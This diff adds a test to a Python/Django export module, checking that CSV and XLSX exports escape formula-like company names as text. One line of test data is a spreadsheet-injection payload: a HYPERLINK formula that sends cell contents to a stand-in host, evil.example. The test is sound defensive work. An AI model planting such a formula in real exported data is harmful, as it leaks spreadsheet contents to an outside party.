@@ -275,6 +275,26 @@ def test_exports(client_for, review, secretary, cycle):
     assert scores.max_row == 1 + 5 * 23
 
 
+def test_exports_write_formula_like_names_as_text(client_for, review, secretary, cycle):
+    panel, lead, peers = review
+    for a in [lead, *peers]:
+        submitted_sheet(a, 60)
+    enterprise = panel.application.enterprise
+    enterprise.name_en = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    enterprise.name_zh = "+86 郴州甲企业"
+    enterprise.save(update_fields=["name_en", "name_zh"])
+    c = client_for(secretary)
+    text = b"".join(c.get(reverse("reviews:export", args=[cycle.pk, "csv"])).streaming_content).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+86 郴州甲企业" in text
+    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
+    wb = load_workbook(io.BytesIO(c.get(reverse("reviews:export", args=[cycle.pk, "xlsx"])).content))
+    ranking, scores = wb.worksheets
+    cells = [ranking.cell(2, 2), ranking.cell(2, 3), scores.cell(2, 3)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert ranking.cell(2, 3).value.startswith("'=HYPERLINK")
+    assert ranking.cell(2, 6).value == 600.0  # numbers stay numbers
+
+
 def test_csv_export_streams_whole_lines_in_pieces(review, cycle):
     from reviews.exports import ranking_csv_lines
 
